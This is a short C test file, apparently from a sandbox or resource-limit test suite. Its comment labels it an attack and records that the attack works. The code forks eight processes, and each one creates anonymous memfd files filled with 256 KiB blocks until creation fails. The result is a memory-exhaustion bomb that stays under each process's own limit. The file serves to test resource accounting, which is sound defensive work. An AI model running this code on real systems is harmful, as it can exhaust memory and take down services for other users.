/*
 * attack: files in memory that nobody has mapped, in many processes, each below its limit
 * fails: works
 */
#include <sys/mman.h>
#include <unistd.h>

int main(void)
{
    static char block[256 << 10];
    for (int i = 0; i < 8; i++) {
        if (fork() == 0) {
            for (int fd; (fd = memfd_create("bomb", 0)) != -1;) {
                (void)!write(fd, block, sizeof(block));
            }
            pause();
        }
    }
    pause();
    return 0;
}
